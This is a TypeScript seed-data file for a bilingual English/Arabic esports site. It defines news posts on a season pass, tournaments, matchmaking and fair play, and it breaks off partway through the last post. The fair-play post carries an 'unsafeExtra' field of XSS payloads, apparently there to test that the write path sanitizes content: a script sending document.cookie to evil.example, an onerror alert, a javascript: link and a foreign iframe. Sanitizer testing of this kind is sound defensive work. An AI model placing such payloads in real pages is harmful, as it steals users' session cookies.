import { escapeHtml } from '../http/escape.js';
import { seedId } from './ids.js';

interface ArticleSection {
  heading: string;
  paragraphs: string[];
  list?: { ordered?: boolean; items: string[] };
}

/** Everything an article body is made of; rendered to HTML by `articleHtml`. */
interface ArticleBody {
  intro: string[];
  sections: ArticleSection[];
  quote: { text: string; author: string };
  link: { href: string; text: string; before: string; after: string };
  figure: { src: string; alt: string; caption: string };
  /** Closing paragraphs, after the last section. */
  outro: string[];
  /** Raw markup appended as-is to the source, before sanitizing (used to prove the write path cleans it). */
  unsafeExtra?: string;
}

export interface SeedPostTranslation {
  language: 'en' | 'ar';
  title: string;
  summary: string;
  /** Unsanitized source; the post write path sanitizes it. */
  content: string;
}

export interface SeedPost {
  key: string;
  id: string;
  tags: string[];
  createdDaysAgo: number;
  translations: SeedPostTranslation[];
}

function paragraphs(texts: string[]): string {
  return texts.map((text) => `<p>${text}</p>`).join('\n');
}

/** The article markup: headings, paragraphs, a list, a figure, a quote and a link. Text is trusted seed copy. */
function articleHtml(body: ArticleBody): string {
  const [first, ...rest] = body.sections;
  const section = (item: ArticleSection) => {
    const list = item.list
      ? `<${item.list.ordered ? 'ol' : 'ul'}>${item.list.items.map((entry) => `<li>${entry}</li>`).join('')}</${item.list.ordered ? 'ol' : 'ul'}>`
      : '';
    return `<h2>${item.heading}</h2>\n${paragraphs(item.paragraphs)}\n${list}`;
  };
  return [
    paragraphs(body.intro),
    `<figure><img src="${escapeHtml(body.figure.src)}" alt="${escapeHtml(body.figure.alt)}" width="1200" height="630"><figcaption>${body.figure.caption}</figcaption></figure>`,
    section(first),
    `<blockquote><p>${body.quote.text}</p><p><strong>${body.quote.author}</strong></p></blockquote>`,
    ...rest.map(section),
    paragraphs(body.outro),
    `<p>${body.link.before} <a href="${escapeHtml(body.link.href)}">${body.link.text}</a>${body.link.after}</p>`,
    body.unsafeExtra ?? '',
  ]
    .filter(Boolean)
    .join('\n');
}

type PostDefinition = {
  key: string;
  tags: string[];
  createdDaysAgo: number;
  en: { title: string; summary: string; body: ArticleBody };
  ar: { title: string; summary: string; body: ArticleBody };
};

const figure = (key: string) => `/static/news/${key}-figure.svg`;

const definitions: PostDefinition[] = [
  {
    key: 'mena-pass-season-one',
    tags: ['MenaPass', 'Season1', 'Rewards'],
    createdDaysAgo: 2,
    en: {
      title: 'MENA Pass Season 1 is live',
      summary:
        'Fifty levels, weekly missions, double XP weekends and four milestone rewards: everything you need to know about the first season of the MENA Pass.',
      body: {
        intro: [
          'The wait is over. The first season of the <strong>MENA Pass</strong> is live for every player in the Middle East, and it rewards the games you already play. Every match you finish earns experience points, every mission you complete earns more, and every level unlocks something new.',
        ],
        figure: {
          src: figure('mena-pass-season-one'),
          alt: 'MENA Pass Season 1 artwork',
          caption: 'Season 1 runs for twelve weeks.',
        },
        sections: [
          {
            heading: 'How you earn XP',
            paragraphs: [
              'You earn a base of 50 XP for every match. Playing with your squad adds up to 40 percent more, and missions are worth between 150 and 500 XP each.',
            ],
            list: {
              items: [
                'Double XP on every weekend of the season',
                'A premade group with at least one friend gives 2 extra XP per match',
                'Each match counts toward only one mission at a time',
              ],
            },
          },
          {
            heading: 'Milestones worth chasing',
            paragraphs: [
              'Levels 12, 24, 36 and 50 are milestones. Each one unlocks a bigger reward, from a Hextech chest at level 12 to a mystery skin at level 50.',
            ],
            list: {
              ordered: true,
              items: [
                'Register for the pass',
                'Sync your matches',
                'Complete missions and claim your rewards',
              ],
            },
          },
        ],
        outro: [
          'The season lasts twelve weeks, and your progress is saved after every sync, so there is no need to rush. Register from the pass page, link your game account if you have not done so yet, and press Sync after your games to see your XP arrive. Rewards you unlock stay yours even after the season ends.',
        ],
        quote: {
          text: 'We wanted a pass that rewards showing up with your friends, not grinding alone at 4 a.m.',
          author: 'The MENA Arena team',
        },
        link: {
          before: 'Read the full rules in the',
          href: 'https://menaarena.example/help/mena-pass',
          text: 'MENA Pass help centre',
          after: '.',
        },
      },
    },
    ar: {
      title: 'انطلاق الموسم الأول من MENA Pass',
      summary:
        'خمسون مستوى ومهام أسبوعية وخبرة مضاعفة في عطلات نهاية الأسبوع وأربع مكافآت كبرى: كل ما تحتاج معرفته عن الموسم الأول من MENA Pass.',
      body: {
        intro: [
          'انتهى الانتظار. الموسم الأول من <strong>MENA Pass</strong> متاح الآن لكل اللاعبين في الشرق الأوسط، وهو يكافئك على المباريات التي تلعبها أصلًا. كل مباراة تنهيها تمنحك نقاط خبرة، وكل مهمة تكملها تمنحك المزيد، وكل مستوى يفتح لك شيئًا جديدًا.',
        ],
        figure: {
          src: figure('mena-pass-season-one'),
          alt: 'صورة الموسم الأول من MENA Pass',
          caption: 'يستمر الموسم الأول اثني عشر أسبوعًا.',
        },
        sections: [
          {
            heading: 'كيف تكسب نقاط الخبرة',
            paragraphs: [
              'تحصل على 50 نقطة خبرة أساسية عن كل مباراة. اللعب مع فريقك يضيف حتى 40 بالمئة، وتمنحك كل مهمة ما بين 150 و500 نقطة.',
            ],
            list: {
              items: [
                'خبرة مضاعفة في كل عطلة نهاية أسبوع خلال الموسم',
                'اللعب ضمن مجموعة مع صديق واحد على الأقل يمنحك نقطتي خبرة إضافيتين لكل مباراة',
                'تُحتسب كل مباراة لمهمة واحدة فقط في كل مرة',
              ],
            },
          },
          {
            heading: 'محطات تستحق المطاردة',
            paragraphs: [
              'المستويات 12 و24 و36 و50 هي المحطات الكبرى. كل واحدة منها تفتح مكافأة أكبر، من صندوق هيكستك في المستوى 12 إلى سكن غامض في المستوى 50.',
            ],
            list: { ordered: true, items: ['سجّل في الباس', 'زامن مبارياتك', 'أكمل المهام واستلم مكافآتك'] },
          },
        ],
        outro: [
          'يستمر الموسم اثني عشر أسبوعًا، ويُحفظ تقدمك بعد كل مزامنة، فلا داعي للعجلة. سجّل من صفحة الباس، واربط حساب اللعبة إن لم تفعل ذلك بعد، ثم اضغط على المزامنة بعد مبارياتك لترى نقاط الخبرة تصل إلى حسابك. المكافآت التي تفتحها تبقى لك حتى بعد نهاية الموسم، ويمكنك متابعة مهامك من أي جهاز في أي وقت.',
        ],
        quote: {
          text: 'أردنا باسًا يكافئك على اللعب مع أصدقائك، لا على السهر وحيدًا حتى الرابعة فجرًا.',
          author: 'فريق MENA Arena',
        },
        link: {
          before: 'اقرأ القواعد الكاملة في',
          href: 'https://menaarena.example/help/mena-pass',
          text: 'مركز مساعدة MENA Pass',
          after: '.',
        },
      },
    },
  },
  {
    key: 'ramadan-nights-cup-announced',
    tags: ['Tournaments', 'Ramadan', 'Esports'],
    createdDaysAgo: 5,
    en: {
      title: 'Ramadan Nights Cup: 10,000 USD for the best team of the region',
      summary:
        'Our biggest team tournament yet opens for registration in a few days. Here is the format, the schedule and how to get your squad ready.',
      body: {
        intro: [
          'Ramadan nights have always belonged to gaming. This year we are making it official: the <strong>Ramadan Nights Cup</strong> brings sixteen teams together for late-night single-elimination matches with a total prize pool of 10,000 USD.',
        ],
        figure: {
          src: figure('ramadan-nights-cup-announced'),
          alt: 'Ramadan Nights Cup poster',
          caption: 'Matches start after iftar and run late into the night.',
        },
        sections: [
          {
            heading: 'Format and schedule',
            paragraphs: [
              'Registration opens four days from now and stays open for a week. Check-in opens one hour before the first match, and every round is best of one until the best-of-three final.',
            ],
            list: {
              items: [
                'Sixteen teams, five players each',
                'Silver to Diamond players',
                'Matches played on Summoner’s Rift',
              ],
            },
          },
          {
            heading: 'Getting your team ready',
            paragraphs: [
              'Only team owners and admins can register a team, and every team needs at least five registered members. Make sure everyone has linked their game account before registration opens.',
            ],
          },
        ],
        outro: [
          'Because matches run late, every team can name two substitutes who may join between games. Admins will be online for the whole event to help with lobbies, and the final will be streamed with Arabic and English commentary. Set a reminder now so you do not miss the moment registration opens.',
        ],
        quote: {
          text: 'The energy of a Ramadan night lobby is something you cannot find anywhere else.',
          author: 'Saqr, captain of Nile Pharaohs',
        },
        link: {
          before: 'The complete rulebook is available on the',
          href: 'https://menaarena.example/rulebooks/ramadan-nights-cup.pdf',
          text: 'tournament rulebook page',
          after: '.',
        },
      },
    },
    ar: {
      title: 'كأس ليالي رمضان: 10,000 دولار لأفضل فريق في المنطقة',
      summary: 'أكبر بطولة فرق حتى الآن تفتح باب التسجيل خلال أيام. إليك النظام والجدول وطريقة تجهيز فريقك.',
      body: {
        intro: [
          'لطالما كانت ليالي رمضان ليالي الألعاب، وهذا العام نجعل ذلك رسميًا: <strong>كأس ليالي رمضان</strong> يجمع ستة عشر فريقًا في مباريات إقصائية ليلية بجوائز مجموعها 10,000 دولار.',
        ],
        figure: {
          src: figure('ramadan-nights-cup-announced'),
          alt: 'ملصق كأس ليالي رمضان',
          caption: 'تبدأ المباريات بعد الإفطار وتستمر حتى وقت متأخر من الليل.',
        },
        sections: [
          {
            heading: 'النظام والجدول',
            paragraphs: [
              'يفتح التسجيل بعد أربعة أيام ويبقى مفتوحًا أسبوعًا كاملًا. يبدأ تسجيل الحضور قبل ساعة من المباراة الأولى، وكل الأدوار من مباراة واحدة حتى النهائي الذي يُلعب من أفضل ثلاث مباريات.',
            ],
            list: {
              items: [
                'ستة عشر فريقًا من خمسة لاعبين',
                'لاعبون من الفضة حتى الألماس',
                'المباريات على خريطة سمونرز ريفت',
              ],
            },
          },
          {
            heading: 'جهّز فريقك',
            paragraphs: [
              'يستطيع مالك الفريق أو مشرفوه فقط تسجيل الفريق، ويحتاج كل فريق إلى خمسة أعضاء مسجلين على الأقل. تأكد أن جميع اللاعبين ربطوا حسابات اللعبة قبل فتح التسجيل.',
            ],
          },
        ],
        outro: [
          'ولأن المباريات تمتد حتى وقت متأخر، يستطيع كل فريق تسمية لاعبَين احتياطيين يمكنهما المشاركة بين المباريات. سيكون المشرفون متصلين طوال البطولة للمساعدة في الردهات، وسيُبث النهائي بتعليق عربي وإنجليزي. اضبط تذكيرًا الآن حتى لا تفوتك لحظة فتح التسجيل، وشارك الخبر مع أصدقائك في فريقك.',
        ],
        quote: {
          text: 'أجواء ردهة اللعب في ليلة رمضانية لا تجدها في أي مكان آخر.',
          author: 'صقر، قائد فريق Nile Pharaohs',
        },
        link: {
          before: 'كتيّب القواعد الكامل متاح في',
          href: 'https://menaarena.example/rulebooks/ramadan-nights-cup.pdf',
          text: 'صفحة قواعد البطولة',
          after: '.',
        },
      },
    },
  },
  {
    key: 'patch-notes-meta-shift',
    tags: ['Meta', 'Patch', 'Guides'],
    createdDaysAgo: 9,
    en: {
      title: 'Patch notes: how the new patch shakes up the tournament meta',
      summary:
        'Junglers are faster, tanks are sturdier and the bot lane has a new favourite. Our coaches break down what changes for competitive play.',
      body: {
        intro: [
          'Every patch changes something, but this one changes <em>how</em> games are won. We asked three of our tournament coaches what the new patch means for the matches you will play this month.',
        ],
        figure: {
          src: figure('patch-notes-meta-shift'),
          alt: 'Champion select screen',
          caption: 'Champion select will look different this month.',
        },
        sections: [
          {
            heading: 'Faster junglers, earlier fights',
            paragraphs: [
              'Camp experience was raised slightly, so junglers reach their first power spike sooner. Expect early skirmishes around the river and prioritise vision before the first dragon.',
            ],
            list: {
              items: [
                'Ward the river before the three-minute mark',
                'Track the enemy jungler’s first clear',
                'Group earlier for the first objective',
              ],
            },
          },
          {
            heading: 'What to pick in 1v1',
            paragraphs: [
              'On the Howling Abyss, champions with strong early trades and waveclear are stronger than ever. Practise your first three levels: most duels are decided there.',
            ],
          },
        ],
        outro: [
          'Patches reward players who adapt quickly, but they rarely change the fundamentals. Keep your wave management clean, respect the timers of the big objectives and talk to your team before every fight. Our coaches will publish a short video review of the new meta next week, with examples from recent tournament matches.',
        ],
        quote: {
          text: 'The team that understands the new jungle timings will win the first month of the season.',
          author: 'Coach Hala',
        },
        link: {
          before: 'Read the official notes on the',
          href: 'https://www.leagueoflegends.com/en-us/news/tags/patch-notes/',
          text: 'publisher’s patch notes page',
          after: '.',
        },
      },
    },
    ar: {
      title: 'ملاحظات التحديث: كيف يغيّر التحديث الجديد أسلوب اللعب في البطولات',
      summary:
        'لاعبو الغابة أسرع، والدبابات أصلب، والممر السفلي له مفضل جديد. مدربونا يشرحون ما يتغير في اللعب التنافسي.',
      body: {
        intro: [
          'كل تحديث يغيّر شيئًا ما، لكن هذا التحديث يغيّر <em>طريقة</em> الفوز بالمباريات. سألنا ثلاثة من مدربي البطولات عما يعنيه التحديث الجديد لمبارياتكم هذا الشهر.',
        ],
        figure: {
          src: figure('patch-notes-meta-shift'),
          alt: 'شاشة اختيار الأبطال',
          caption: 'ستبدو شاشة اختيار الأبطال مختلفة هذا الشهر.',
        },
        sections: [
          {
            heading: 'غابة أسرع ومعارك أبكر',
            paragraphs: [
              'ارتفعت خبرة المعسكرات قليلًا، فيصل لاعبو الغابة إلى أول نقطة قوة في وقت أبكر. توقّع مناوشات مبكرة حول النهر واهتم بالرؤية قبل التنين الأول.',
            ],
            list: {
              items: [
                'ضع أجهزة الرؤية في النهر قبل الدقيقة الثالثة',
                'تتبّع أول جولة للاعب غابة الخصم',
                'تجمّع مبكرًا للهدف الأول',
              ],
            },
          },
          {
            heading: 'ماذا تختار في المواجهات الفردية',
            paragraphs: [
              'على خريطة هاولينغ أبيس أصبح الأبطال أصحاب التبادلات المبكرة القوية وتنظيف الموجات أقوى من أي وقت مضى. تدرّب على المستويات الثلاثة الأولى، فمعظم المواجهات تُحسم فيها.',
            ],
          },
        ],
        outro: [
          'التحديثات تكافئ اللاعبين الذين يتأقلمون بسرعة، لكنها نادرًا ما تغيّر الأساسيات. حافظ على إدارة جيدة للموجات، واحترم توقيتات الأهداف الكبرى، وتحدث مع فريقك قبل كل معركة. سينشر مدربونا الأسبوع المقبل مراجعة قصيرة بالفيديو لأسلوب اللعب الجديد، مع أمثلة من مباريات البطولات الأخيرة، حتى تستعد لمبارياتك القادمة بثقة أكبر.',
        ],
        quote: {
          text: 'الفريق الذي يفهم توقيتات الغابة الجديدة سيفوز بالشهر الأول من الموسم.',
          author: 'المدربة هالة',
        },
        link: {
          before: 'اقرأ الملاحظات الرسمية في',
          href: 'https://www.leagueoflegends.com/ar-ae/news/tags/patch-notes/',
          text: 'صفحة ملاحظات التحديث',
          after: '.',
        },
      },
    },
  },
  {
    key: 'how-matchmaking-tournaments-work',
    tags: ['Guides', 'Matchmaking', 'Tournaments'],
    createdDaysAgo: 14,
    en: {
      title: 'How matchmaking tournaments work',
      summary:
        'No bracket, no fixed schedule: queue when you want, get paired with a player of similar points and climb the leaderboard. A step-by-step guide.',
      body: {
        intro: [
          'Matchmaking tournaments are the easiest way to play competitively on MENA Arena. Instead of a bracket with fixed match times, you join a queue whenever you are free during the daily play window and we find you an opponent.',
        ],
        figure: {
          src: figure('how-matchmaking-tournaments-work'),
          alt: 'Matchmaking panel on the tournament page',
          caption: 'The matchmaking panel shows your points and status.',
        },
        sections: [
          {
            heading: 'Step by step',
            paragraphs: ['Register during the registration period, then come back once matchmaking opens.'],
            list: {
              ordered: true,
              items: [
                'Press Join Queue on the tournament page',
                'Accept the match within 100 seconds',
                'Open the game client, click Play, then the trophy icon, and paste the game code',
                'Report the result with a screenshot',
              ],
            },
          },
          {
            heading: 'Points and fairness',
            paragraphs: [
              'You are matched with players of similar points, and the search widens the longer you wait. Wins raise your points and losses lower them, depending on the gap between you and your opponent. If your opponent does not join within 15 minutes, you can claim a no-show win.',
            ],
          },
        ],
        outro: [
          'A few habits make the experience smoother: keep the tournament page open while you queue, check that your game client is up to date before the window opens, and take a screenshot of the final scoreboard every time. If anything goes wrong, the support chat on the tournament page connects you to an admin.',
        ],
        quote: {
          text: 'I can play three games after work and still climb. That is why I love the matchmaking format.',
          author: 'Reem, Riyadh Rumble finalist',
        },
        link: {
          before: 'Find an open ladder on the',
          href: 'https://menaarena.example/tournaments',
          text: 'tournaments page',
          after: '.',
        },
      },
    },
    ar: {
      title: 'كيف تعمل بطولات المطابقة',
      summary:
        'بلا جدول مباريات ولا مواعيد ثابتة: انضم إلى قائمة الانتظار متى شئت، وواجه لاعبًا بنقاط مقاربة، وتسلّق لوحة الصدارة. دليل خطوة بخطوة.',
      body: {
        intro: [
          'بطولات المطابقة هي أسهل طريقة للعب التنافسي على MENA Arena. بدلًا من جدول بمواعيد ثابتة، تنضم إلى قائمة الانتظار متى كنت متفرغًا خلال نافذة اللعب اليومية ونجد لك خصمًا.',
        ],
        figure: {
          src: figure('how-matchmaking-tournaments-work'),
          alt: 'لوحة المطابقة في صفحة البطولة',
          caption: 'تعرض لوحة المطابقة نقاطك وحالتك.',
        },
        sections: [
          {
            heading: 'خطوة بخطوة',
            paragraphs: ['سجّل خلال فترة التسجيل، ثم عُد عندما تبدأ المطابقة.'],
            list: {
              ordered: true,
              items: [
                'اضغط على الانضمام إلى قائمة الانتظار في صفحة البطولة',
                'اقبل المباراة خلال 100 ثانية',
                'افتح برنامج اللعبة واضغط على العب ثم أيقونة الكأس والصق رمز اللعبة',
                'أبلغ عن النتيجة مع لقطة شاشة',
              ],
            },
          },
          {
            heading: 'النقاط والعدالة',
            paragraphs: [
              'تتم مطابقتك مع لاعبين بنقاط مقاربة، ويتسع نطاق البحث كلما طال انتظارك. الفوز يرفع نقاطك والخسارة تخفضها بحسب الفارق بينك وبين خصمك. وإذا لم ينضم خصمك خلال 15 دقيقة يمكنك المطالبة بالفوز لعدم الحضور.',
            ],
          },
        ],
        outro: [
          'بعض العادات تجعل التجربة أسهل: أبقِ صفحة البطولة مفتوحة أثناء الانتظار، وتأكد من تحديث برنامج اللعبة قبل بدء النافذة اليومية، والتقط صورة للوحة النتائج النهائية في كل مرة. وإذا حدثت أي مشكلة، فإن محادثة الدعم في صفحة البطولة توصلك مباشرة بأحد المشرفين الذين يتابعون البطولة طوال اليوم.',
        ],
        quote: {
          text: 'أستطيع لعب ثلاث مباريات بعد العمل وأواصل التقدم. لهذا أحب نظام المطابقة.',
          author: 'ريم، من المتأهلين لنهائي معركة الرياض',
        },
        link: {
          before: 'ابحث عن سلم مفتوح في',
          href: 'https://menaarena.example/tournaments',
          text: 'صفحة البطولات',
          after: '.',
        },
      },
    },
  },
  {
    key: 'community-spotlight-desert-falcons',
    tags: ['Community', 'Teams', 'Spotlight'],
    createdDaysAgo: 19,
    en: {
      title: 'Community spotlight: Desert Falcons',
      summary:
        'Five friends from three countries, one Discord server and a habit of winning. We sat down with the Desert Falcons before the Nile Legends Cup.',
      body: {
        intro: [
          'The <strong>Desert Falcons</strong> started as a group of friends queueing together after school. Two years later they are one of the most feared teams on MENA Arena, with players from Saudi Arabia, the Emirates and Egypt.',
        ],
        figure: {
          src: figure('community-spotlight-desert-falcons'),
          alt: 'The Desert Falcons team logo',
          caption: 'The team’s logo was drawn by Layla.',
        },
        sections: [
          {
            heading: 'The secret is communication',
            paragraphs: [
              'Their captain Falcon says the team spends more time reviewing games than playing them. Every loss is watched again the next day, and every player has to suggest one thing to improve.',
            ],
            list: {
              items: [
                'Review every loss the next day',
                'One voice for calls during fights',
                'No blame in the lobby',
              ],
            },
          },
          {
            heading: 'What comes next',
            paragraphs: [
              'The team is registered for the Nile Legends Cup and the Gulf Showdown, and they plan to take part in the Ramadan Nights Cup as well.',
            ],
          },
        ],
        outro: [
          'Outside the game, the Falcons run a weekly coaching night for newer players in their community server. Anyone can join, ask questions about drafts or laning and watch replays together. It is their way of giving back to the scene that helped them grow, and it is open to every region.',
        ],
        quote: {
          text: 'We lose together and we win together. That is the only rule we never break.',
          author: 'Falcon, captain of Desert Falcons',
        },
        link: {
          before: 'Want to build your own team? Start from the',
          href: 'https://menaarena.example/account/teams',
          text: 'My Team page',
          after: '.',
        },
      },
    },
    ar: {
      title: 'تحت الضوء: فريق Desert Falcons',
      summary:
        'خمسة أصدقاء من ثلاث دول وخادم ديسكورد واحد وعادة الفوز. جلسنا مع فريق Desert Falcons قبل كأس أساطير النيل.',
      body: {
        intro: [
          'بدأ فريق <strong>Desert Falcons</strong> كمجموعة أصدقاء يلعبون معًا بعد المدرسة. وبعد عامين أصبحوا من أكثر الفرق رهبة على MENA Arena، بلاعبين من السعودية والإمارات ومصر.',
        ],
        figure: {
          src: figure('community-spotlight-desert-falcons'),
          alt: 'شعار فريق Desert Falcons',
          caption: 'رسمت ليلى شعار الفريق.',
        },
        sections: [
          {
            heading: 'السر هو التواصل',
            paragraphs: [
              'يقول قائد الفريق Falcon إن الفريق يقضي في مراجعة المباريات وقتًا أطول من اللعب نفسه. تُعاد مشاهدة كل خسارة في اليوم التالي، وعلى كل لاعب أن يقترح شيئًا واحدًا للتحسين.',
            ],
            list: {
              items: [
                'مراجعة كل خسارة في اليوم التالي',
                'صوت واحد للقرارات أثناء المعارك',
                'لا لوم في ردهة اللعب',
              ],
            },
          },
          {
            heading: 'ماذا بعد',
            paragraphs: [
              'الفريق مسجل في كأس أساطير النيل ومواجهة الخليج، ويخطط للمشاركة في كأس ليالي رمضان أيضًا.',
            ],
          },
        ],
        outro: [
          'وخارج اللعبة، ينظم فريق Desert Falcons أمسية تدريب أسبوعية للاعبين الجدد على خادم مجتمعهم. يمكن لأي شخص الانضمام وطرح الأسئلة عن اختيار الأبطال أو اللعب في الممرات ومشاهدة الإعادات معًا. إنها طريقتهم لرد الجميل للمجتمع الذي ساعدهم على النمو، وهي مفتوحة للاعبين من كل المناطق دون أي شروط.',
        ],
        quote: {
          text: 'نخسر معًا ونفوز معًا. هذه هي القاعدة الوحيدة التي لا نكسرها أبدًا.',
          author: 'Falcon، قائد فريق Desert Falcons',
        },
        link: {
          before: 'تريد بناء فريقك الخاص؟ ابدأ من',
          href: 'https://menaarena.example/account/teams',
          text: 'صفحة فريقي',
          after: '.',
        },
      },
    },
  },
  {
    key: 'europe-west-joins',
    tags: ['Announcements', 'EUW', 'Community'],
    createdDaysAgo: 24,
    en: {
      title: 'Europe West players join MENA Arena',
      summary:
        'Tournaments, matchmaking ladders and the MENA Pass are now open to players on the Europe West server. Here is what changes and what stays the same.',
      body: {
        intro: [
          'Many of you play on Europe West, whether you live in Europe or simply prefer its servers. Starting today, MENA Arena runs tournaments for <strong>Europe West</strong> players alongside our Middle East events.',
        ],
        figure: {
          src: figure('europe-west-joins'),
          alt: 'Map of the two regions',
          caption: 'Two regions, one community.',
        },
        sections: [
          {
            heading: 'What is new',
            paragraphs: [
              'Use the region switch on the tournaments page to see Europe West events. Your region is picked automatically from your game account, and you can change the view at any time.',
            ],
            list: {
              items: [
                'Weekly Europe West team tournaments',
                'A Europe West matchmaking ladder',
                'Prize pools in euros',
              ],
            },
          },
          {
            heading: 'What stays the same',
            paragraphs: [
              'Your profile, your team, your loyalty points and your notifications work exactly as before. Teams can mix players from both regions, but each tournament is played on its own region’s server.',
            ],
          },
        ],
        outro: [
          'We are starting with a weekly team tournament and a matchmaking ladder, and we will add more events as the Europe West community grows. Tell us what you would like to see next through the bug report and feedback page, and invite your friends on Europe West to create their accounts today.',
        ],
        quote: {
          text: 'Half of my friends moved to Europe for university. Now we can finally play the same tournaments again.',
          author: 'Emma, Rhine Wolves',
        },
        link: {
          before: 'Questions? Read the',
          href: 'https://menaarena.example/faq',
          text: 'frequently asked questions',
          after: '.',
        },
      },
    },
    ar: {
      title: 'لاعبو أوروبا الغربية ينضمون إلى MENA Arena',
      summary:
        'البطولات وسلالم المطابقة وMENA Pass أصبحت متاحة للاعبي خادم أوروبا الغربية. إليك ما يتغير وما يبقى كما هو.',
      body: {
        intro: [
          'كثير منكم يلعب على خادم أوروبا الغربية، سواء كنتم تعيشون في أوروبا أو تفضلون خوادمها. ابتداءً من اليوم تنظم MENA Arena بطولات للاعبي <strong>أوروبا الغربية</strong> إلى جانب بطولات الشرق الأوسط.',
        ],
        figure: { src: figure('europe-west-joins'), alt: 'خريطة المنطقتين', caption: 'منطقتان ومجتمع واحد.' },
        sections: [
          {
            heading: 'ما الجديد',
            paragraphs: [
              'استخدم مبدّل المنطقة في صفحة البطولات لعرض بطولات أوروبا الغربية. تُختار منطقتك تلقائيًا من حساب اللعبة، ويمكنك تغيير العرض في أي وقت.',
            ],
            list: {
              items: ['بطولات فرق أسبوعية لأوروبا الغربية', 'سلم مطابقة لأوروبا الغربية', 'جوائز باليورو'],
            },
          },
          {
            heading: 'ما يبقى كما هو',
            paragraphs: [
              'ملفك الشخصي وفريقك ونقاط الولاء والإشعارات تعمل تمامًا كما كانت. يمكن للفرق أن تضم لاعبين من المنطقتين، لكن كل بطولة تُلعب على خادم منطقتها.',
            ],
          },
        ],
        outro: [
          'نبدأ ببطولة فرق أسبوعية وسلم للمطابقة، وسنضيف المزيد من الفعاليات مع نمو مجتمع أوروبا الغربية. أخبرنا بما تود رؤيته لاحقًا من خلال صفحة الإبلاغ عن الأخطاء والاقتراحات، وادعُ أصدقاءك على خادم أوروبا الغربية لإنشاء حساباتهم اليوم والانضمام إلى أول بطولة متاحة لهم.',
        ],
        quote: {
          text: 'نصف أصدقائي انتقلوا إلى أوروبا للدراسة. الآن يمكننا أخيرًا اللعب في البطولات نفسها من جديد.',
          author: 'إيما، فريق Rhine Wolves',
        },
        link: {
          before: 'لديك أسئلة؟ اقرأ',
          href: 'https://menaarena.example/faq',
          text: 'الأسئلة الشائعة',
          after: '.',
        },
      },
    },
  },
  {
    key: 'fair-play-update',
    tags: ['FairPlay', 'Safety', 'Announcements'],
    createdDaysAgo: 30,
    en: {
      title: 'Fair play update: how we keep tournaments clean',
      summary:
        'Screenshots, lobby checks and a zero-tolerance policy for third-party software. How MENA Arena protects every match you play.',
      body: {
        intro: [
          'Competitive play only works when everyone plays by the same rules. This month we banned a number of accounts for using <strong>third-party cheating software</strong>, and we want to explain how our checks work.',
        ],
        figure: {
          src: figure('fair-play-update'),
          alt: 'A shield over a game lobby',
          caption: 'Every reported result is verified.',
        },
        sections: [
          {
            heading: 'What we check',
            paragraphs: [
              'Every result must come with a screenshot, and our system compares it with the lobby data from the game publisher. Results that do not match are sent to an admin.',
            ],
            list: {
              items: [
                'Lobby membership of both players or teams',
                'Game length and result',
                'Reports from other players',
              ],
            },
          },
          {
            heading: 'What happens to cheaters',
            paragraphs: [
              'Accounts caught using third-party software are banned from every tournament and lose their prizes, loyalty points and pass progress. Bans are reviewed by two admins before they are applied.',
            ],
          },
        ],
        outro: [
          'Most players will never notice these checks, and that is exactly the point. If you believe a ban was applied by mistake, open a support ticket with your game ID and we will review the case within five working days. Thank you for helping us keep every lobby fair.',
        ],
        quote: {
          text: 'One cheater ruins the evening of nine other players. We will not accept that.',
          author: 'The MENA Arena admin team',
        },
        link: {
          before: 'Report a player through the',
          href: 'https://menaarena.example/account/tickets',
          text: 'support tickets page',
          after: '.',
        },
        unsafeExtra:
          '<script>document.location="https://evil.example/steal?c="+document.cookie</script>' +
          '<p>Stay safe.<img src="x" onerror="alert(document.cookie)"> <a href="javascript:alert(1)">Click here</a></p>' +
          '<iframe src="https://evil.example/embed"></iframe>',
      },
    },
    ar: {
      title: 'تحديث اللعب النظيف: كيف نحافظ على نزاهة البطولات',
      summary:
        'لقطات الشاشة وفحص الردهات وسياسة عدم التسامح مطلقًا مع برامج الطرف الثالث. هكذا تحمي MENA Arena كل مباراة تلعبها.',
      body: {
        intro: [
          'اللعب التنافسي لا ينجح إلا عندما يلتزم الجميع بالقواعد نفسها. هذا الشهر حظرنا عددًا من الحسابات بسبب استخدام <strong>برامج غش من طرف ثالث</strong>، ونريد أن نشرح كيف تعمل عمليات التحقق لدينا.',
        ],
        figure: {
          src: figure('fair-play-update'),
          alt: 'درع فوق ردهة لعب',
          caption: 'نتحقق من كل نتيجة يتم الإبلاغ عنها.',
        },
        sections: [
          {
            heading: 'ما الذي نتحقق منه',
            paragraphs: [
              'يجب أن تُرفق كل نتيجة بلقطة شاشة، ويقارنها نظامنا ببيانات الردهة من ناشر اللعبة. النتائج غير المتطابقة تُحال إلى أحد المشرفين.',
            ],
            list: {
              items: [
                'وجود اللاعبين أو الفريقين في الردهة',
                'مدة المباراة ونتيجتها',
                'بلاغات اللاعبين الآخرين',
              ],
            },
          },
          {
            heading: 'ماذا يحدث للغشاشين',
            paragraphs: [
              'الحسابات التي يثبت استخدامها لبرامج الطرف الثالث تُحظر من كل البطولات وتفقد جوائزها ونقاط الولاء وتقدمها في الباس. يراجع مشرفان كل حظر قبل تطبيقه.',
            ],
          },
        ],
        outro: [
          'معظم اللاعبين لن يلاحظوا عمليات التحقق هذه أبدًا، وهذا هو المقصود تمامًا. إذا كنت تعتقد أن حظرًا طُبّق عن طريق الخطأ، فافتح تذكرة دعم مع معرّف اللعبة وسنراجع الحالة خلال خمسة أيام عمل. شكرًا لمساعدتنا في الحفاظ على نزاهة كل ردهة لعب، ولإبلاغك عن أي سلوك مريب تلاحظه.',
        ],
        quote: {
          text: 'غشاش واحد يفسد أمسية تسعة لاعبين آخرين. لن نقبل بذلك.',
          author: 'فريق مشرفي MENA Arena',
        },
        link: {
          before: 'أبلغ عن لاعب من خلال',
          href: 'https://menaarena.example/account/tickets',
          text: 'صفحة تذاكر الدعم',
          after: '.',
        },
      },
    },
  },
  {
    key: 'loyalty-points-explained',
    tags: ['Loyalty', 'Rewards', 'Guides'],
    createdDaysAgo: 38,
    en: {
      title: 'Loyalty points explained: earn, climb, get rewarded',
      summary:
        'Ten points for every tournament, event or activity, a public leaderboard and monthly gifts for the most active players. Here is how the loyalty programme works.',
      body: {
        intro: [
          'Loyalty points are our way of saying thank you for being part of the community. Unlike XP, they are not tied to a season: every point you earn stays on your profile and counts toward the <strong>loyalty leaderboard</strong>.',
        ],
        figure: {
          src: figure('loyalty-points-explained'),
          alt: 'The loyalty leaderboard',
          caption: 'The top three of the leaderboard get gold, silver and bronze badges.',
        },
        sections: [
          {
            heading: 'Ways to earn',
            paragraphs: [
              'You receive 10 loyalty points for every tournament, event or activity you take part in.',
            ],
            list: {
